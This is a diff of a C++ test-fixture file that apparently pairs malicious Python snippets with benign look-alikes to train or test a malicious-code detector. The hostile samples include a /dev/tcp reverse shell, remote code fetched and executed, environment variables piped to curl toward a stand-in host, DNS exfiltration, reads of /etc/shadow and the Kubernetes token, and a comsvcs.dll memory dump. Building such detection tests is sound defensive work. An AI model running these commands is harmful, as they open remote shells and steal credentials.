@@ -19,8 +19,7 @@ s = socket.socket()
 s.connect(("192.0.2.7", 80))
 s.sendall(b"hello")
 )"},
-    {"reverse-shell", "",
-     "import os\nos.system('bash -i >& /dev/tcp/192.0.2.7/443 0>&1')\n",
+    {"reverse-shell", "", "import os\nos.system('bash -i >& /dev/tcp/192.0.2.7/443 0>&1')\n",
      "import os\nos.system('bash -i script.sh > log.txt')\n"},
     {"remote-commands", "command-output-sent beacon",
      R"(
@@ -98,8 +97,7 @@ async def on_message(message):
     {"dead-drop", "fetched-code-executed",
      "import requests\nexec(requests.get('https://pastebin.com/raw/abcdefgh').text)\n",
      "import requests\nprint(requests.get('https://raw.githubusercontent.com/a/b/version').text)\n"},
-    {"callback-service", "",
-     "import requests\nrequests.get('http://abc.oast.fun/')\n",
+    {"callback-service", "", "import requests\nrequests.get('http://abc.oast.fun/')\n",
      "import requests\nrequests.get('http://host.example.invalid/')\n"},
     {"dns-exfiltration", "",
      "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n",
@@ -128,7 +126,8 @@ def on_message(client, data, message):
 client = mqtt.Client()
 client.on_message = on_message
 )"},
-    {"remote-file-server", "", "import os\nos.system('python3 -m http.server 8000')\n", "import os\nos.system('python3 -m venv x')\n"},
+    {"remote-file-server", "", "import os\nos.system('python3 -m http.server 8000')\n",
+     "import os\nos.system('python3 -m venv x')\n"},
 };
 
 constexpr Example kCredentials[] = {
@@ -181,13 +180,15 @@ requests.post("http://host.example.invalid/in", json=dict(os.environ))
 import os, requests
 requests.get(os.environ.get("SERVICE_URL"))
 )"},
-    {"environment-sent", "",
+    {"environment-sent", "collected-data-sent",
      "import os\nos.system('env | curl -d @- http://host.example.invalid/in')\n",
      "import os\nos.system('env | sort')\n"},
     {"shadow-file", "", "print(open('/etc/shadow').read())\n", "print(open('/etc/hostname').read())\n"},
     {"passwd-file", "", "print(open('/etc/passwd').read())\n", "import pwd\npwd.getpwnam('daemon')\n"},
-    {"process-memory", "", "memory = open(f'/proc/{pid}/mem', 'rb')\n", "status = open('/proc/self/status')\n"},
-    {"windows-secrets", "", "import os\nos.system(r'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 4 x.dmp full')\n",
+    {"process-memory", "", "memory = open(f'/proc/{pid}/mem', 'rb')\n",
+     "status = open('/proc/self/status')\n"},
+    {"windows-secrets", "",
+     "import os\nos.system(r'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 4 x.dmp full')\n",
      "import os\nos.system('rundll32 shell32.dll')\n"},
     {"browser-passwords", "",
      R"(
@@ -233,8 +234,10 @@ with keyboard.Listener(on_press=on_press) as listener:
 import keyboard
 keyboard.add_hotkey("ctrl+q", quit)
 )"},
-    {"shell-history", "", "import os\nos.system('cat ~/.bash_history')\n", "import os\nos.system('cat ~/notes.txt')\n"},
-    {"packet-sniffing", "", "from scapy.all import sniff\nsniff(count=10)\n", "from scapy.all import IP\nIP()\n"},
+    {"shell-history", "", "import os\nos.system('cat ~/.bash_history')\n",
+     "import os\nos.system('cat ~/notes.txt')\n"},
+    {"packet-sniffing", "", "from scapy.all import sniff\nsniff(count=10)\n",
+     "from scapy.all import IP\nIP()\n"},
     {"kubernetes-token", "",
      R"(
 import requests
@@ -242,7 +245,8 @@ token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
 requests.get("https://192.0.2.1/healthz", headers={"X-Token": token})
 )",
      "import kubernetes\nkubernetes.config.load_incluster_config()\n"},
-    {"secrets-search", "", "import os\nos.system(\"grep -r password= /home\")\n", "import os\nos.system('grep -r todo src')\n"},
+    {"secrets-search", "", "import os\nos.system(\"grep -r password= /home\")\n",
+     "import os\nos.system('grep -r todo src')\n"},
 };
 
 }  // namespace
